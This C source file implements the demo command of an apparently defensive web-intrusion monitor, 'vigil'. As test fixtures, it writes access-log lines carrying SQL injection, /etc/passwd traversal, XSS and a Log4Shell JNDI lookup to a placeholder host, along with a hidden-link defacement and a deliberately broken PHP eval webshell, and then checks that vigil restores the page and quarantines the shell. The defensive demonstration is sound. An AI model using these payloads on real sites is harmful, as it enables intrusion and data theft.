/* `vigil demo`: a newcomer's first taste. Builds a throw-away workspace (a web root,
 * an access log, a config) and runs the real vigil on it the way a duty team would:
 * baseline the site, start `vigil watch`, then play the attacker — web attacks in
 * the log, a defaced page, a dropped webshell — and show what vigil saw and did. */
#include "cmd/cmd.h"
#include "core/err.h"

#include <errno.h>
#include <ftw.h>
#include <signal.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern const struct cmd_ops cmd_demo;

static const char demo_index[] =
    "<!doctype html>\n<html><head><title>Demo Agency</title></head>\n"
    "<body><h1>Welcome to the Demo Agency</h1><p>Public information.</p></body></html>\n";

/* A few ordinary visits and a few attacks, in nginx combined format. */
static const char demo_access_log[] =
    "198.51.100.7 - - [24/Nov/2026:09:00:01 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
    "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
    "198.51.100.7 - - [24/Nov/2026:09:00:02 +0000] \"GET /search?q=select+a+union+rep HTTP/1.1\" "
    "200 1024 \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
    "203.0.113.66 - - [24/Nov/2026:09:01:10 +0000] \"GET /item.php?id=1%27%20UNION%20SELECT%20"
    "username,password%20FROM%20users--%20 HTTP/1.1\" 200 88 \"-\" \"sqlmap/1.7.2#stable "
    "(https://sqlmap.org)\"\n"
    "203.0.113.66 - - [24/Nov/2026:09:01:12 +0000] \"GET /../../etc/passwd HTTP/1.1\" 400 0 "
    "\"-\" \"curl/8.0\"\n"
    "203.0.113.66 - - [24/Nov/2026:09:01:15 +0000] \"GET /comment?text=%3Cscript%3Ealert(1)%3C/"
    "script%3E HTTP/1.1\" 200 50 \"-\" \"Mozilla/5.0\"\n"
    "192.0.2.99 - - [24/Nov/2026:09:02:00 +0000] \"GET /?x=${jndi:ldap://192.0.2.99/a} HTTP/1.1\" "
    "404 0 \"-\" \"Mozilla/5.0\"\n";

/* What a defacer appends: a hidden block of gambling links. */
static const char demo_defacement[] =
    "<div style=\"display:none\"><a href=\"http://casino.example/\">casino 博彩</a></div>\n";

/* A China Chopper style one-liner as an attacker would drop it, defanged: the
 * stray word inside the brackets is a PHP syntax error, so it can never run. */
static const char demo_webshell[] = "<?php @eval($_POST[DEFANGED 'pass']);?>\n";

static int
write_file(const char *path, const char *mode, const char *text)
{
	FILE *f = fopen(path, mode);
	if (!f)
		return VG_ERR_IO;
	fputs(text, f);
	return fclose(f) == 0 ? VG_OK : VG_ERR_IO;
}

static void
pause_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
}

/* Starts this same binary with args (NULL-terminated); returns the pid or -1. */
static bool
page_clean(const char *page)
{
	FILE *f = fopen(page, "r");
	char line[1024];
	bool clean = f != NULL;

	while (f && fgets(line, sizeof(line), f))
		clean = clean && !strstr(line, "casino");
	if (f)
		fclose(f);
	return clean;
}

static bool
gone(const char *path)
{
	return access(path, F_OK) != 0;
}

/* Polls done(arg) every 50 ms for up to DEMO_WAIT_MS: a loaded machine (or a
 * sanitizer build compiling rules) may be slow, and the demo reports outcomes, not
 * timings. False if watch exited or time ran out. */
#define DEMO_WAIT_MS 120000
static bool
wait_until(bool (*done)(const char *), const char *arg, pid_t watcher)
{
	int status;

	for (long t = 0; t < DEMO_WAIT_MS; t += 50) {
		if (done(arg))
			return true;
		if (waitpid(watcher, &status, WNOHANG) == watcher)
			return false;
		pause_ms(50);
	}
	return done(arg);
}

static bool
exists(const char *path)
{
	return !gone(path);
}

static pid_t
spawn(char *const args[])
{
	pid_t pid = fork();
	if (pid == 0) {
		execv("/proc/self/exe", args);
		_exit(127);
	}
	return pid;
}

static int
run_vigil(char *const args[])
{
	int status = 0;
	pid_t pid = spawn(args);
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static int
rm_entry(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	chmod(p, 0600);	/* quarantined objects are mode 000 */
	return remove(p);
}

static int
run(struct vg_ctx *ctx, int argc, char **argv)
{
	char ws[] = "/tmp/vigil-demo-XXXXXX";
	char cfg[4200], www[4200], logp[4200], page[4200], shell[4200], yaml[16384];
	char *rules = NULL;
	bool keep = false;
	int ret = VG_EXIT_RUNTIME, status;
	pid_t watcher = -1;

	static const struct option opts[] = { { "keep", no_argument, NULL, 'k' }, { NULL, 0, NULL, 0 } };
	int c;
	optind = 0;
	opterr = 0;
	while ((c = getopt_long(argc, argv, "+:", opts, NULL)) != -1)
		if (c == 'k')
			keep = true;
		else
			return cmd_usage_error(&cmd_demo, "unknown option '%s'", argv[optind - 1]);
	if (optind < argc)
		return cmd_usage_error(&cmd_demo, "unknown option '%s'", argv[optind]);
	char *rel = NULL;
	if (cmd_rules_path(ctx, NULL, NULL, &rel) != VG_OK)
		return VG_EXIT_RUNTIME;
	/* The workspace config resolves relative paths against itself. */
	rules = realpath(rel, NULL);
	free(rel);
	if (!rules) {
		fprintf(stderr, "vigil demo: detection rules not found (set $VIGIL_RULES)\n");
		return VG_EXIT_RUNTIME;
	}
	if (!mkdtemp(ws)) {
		fprintf(stderr, "vigil demo: cannot create workspace: %s\n", strerror(errno));
		free(rules);
		return VG_EXIT_RUNTIME;
	}
	snprintf(www, sizeof(www), "%s/www", ws);
	snprintf(page, sizeof(page), "%s/www/index.html", ws);
	snprintf(shell, sizeof(shell), "%s/www/upload/avatar.php", ws);
	snprintf(logp, sizeof(logp), "%s/access.log", ws);
	snprintf(cfg, sizeof(cfg), "%s/vigil.yaml", ws);
	snprintf(yaml, sizeof(yaml),
	    "store: {path: %s/vigil.db}\n"
	    "log: {level: warn}\n"
	    "monitor:\n  rules: %s\n  sources:\n    - {name: web, path: %s, format: combined}\n"
	    "webroots:\n  - {name: demo-site, path: %s, policy: restore}\n"
	    "protect: {backup_dir: %s/backup, quarantine_dir: %s/quarantine}\n",
	    ws, rules, logp, www, ws, ws);
	if (mkdir(www, 0755) != 0 || write_file(page, "w", demo_index) != VG_OK ||
	    write_file(logp, "w", "") != VG_OK || write_file(cfg, "w", yaml) != VG_OK) {
		fprintf(stderr, "vigil demo: cannot populate %s: %s\n", ws, strerror(errno));
		goto out;
	}
	char upload[4200];
	snprintf(upload, sizeof(upload), "%s/www/upload", ws);
	mkdir(upload, 0755);
	fflush(stdout);

	printf("== vigil demo: workspace %s (config %s)\n\n", ws, cfg);
	printf("== 1. before the event: back up the web root (the trusted baseline)\n");
	fflush(stdout);
	char *backup[] = { "vigil", "--config", cfg, "backup", "create", NULL };
	if (run_vigil(backup) != 0)
		goto out;

	printf("\n== 2. during the event: `vigil watch` follows %s and guards %s\n", logp, www);
	fflush(stdout);
	char ready[4200];
	snprintf(ready, sizeof(ready), "%s/watch.ready", ws);
	char *watch[] = { "vigil", "--config", cfg, "watch", "--ready-file", ready, NULL };
	if ((watcher = spawn(watch)) < 0)
		goto out;
	if (!wait_until(exists, ready, watcher)) {
		fprintf(stderr, "vigil demo: vigil watch did not become ready\n");
		goto out;
	}

	printf("\n-- the attacker scans the site (6 requests land in the access log)\n");
	fflush(stdout);
	write_file(logp, "a", demo_access_log);
	pause_ms(800);
	printf("\n-- the attacker defaces the home page with hidden gambling links\n");
	fflush(stdout);
	write_file(page, "a", demo_defacement);
	wait_until(page_clean, page, watcher);
	printf("\n-- the attacker drops a webshell at %s\n", shell);
	fflush(stdout);
	write_file(shell, "w", demo_webshell);
	wait_until(gone, shell, watcher);

	kill(watcher, SIGTERM);
	waitpid(watcher, &status, 0);
	watcher = -1;

	bool clean = page_clean(page);
	printf("\n== 3. the result\n   home page: %s\n   webshell:  %s\n",
	    clean ? "restored (no injected links left)" : "STILL DEFACED",
	    gone(shell) ? "removed from the web root, kept in the vault" : "STILL PRESENT");
	printf("   the store (alerts, evidence lines, audit trail):\n");
	fflush(stdout);
	char *info[] = { "vigil", "--config", cfg, "store", "info", NULL };
	run_vigil(info);
	ret = clean && gone(shell) ? VG_EXIT_OK : VG_EXIT_RUNTIME;
	printf("\nNext: `vigil scan-log FILE`, `vigil scan DIR`, `vigil watch --config FILE` "
	       "(see README).\n");
out:
	if (watcher > 0) {
		kill(watcher, SIGTERM);
		waitpid(watcher, &status, 0);
	}
	if (keep)
		printf("== workspace kept: %s\n", ws);
	else
		nftw(ws, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
	free(rules);
	return ret;
}

const struct cmd_ops cmd_demo = {
	.name = "demo",
	.summary = "run vigil on a small bundled example and show what it finds",
	.help =
	    "usage: vigil demo [--keep]\n"
	    "\n"
	    "Builds a throw-away workspace under /tmp (a web root, an access log, a config),\n"
	    "backs the web root up, starts `vigil watch` on it, then plays the attacker:\n"
	    "web attacks in the access log, a defaced page, a dropped (defanged) webshell.\n"
	    "Shows the alerts as they happen, the page restored, the webshell quarantined,\n"
	    "and what the store recorded. --keep leaves the workspace to explore.\n"
	    "\n"
	    "exit: 0 when vigil restored the page and quarantined the webshell.\n",
	.run = run,
};
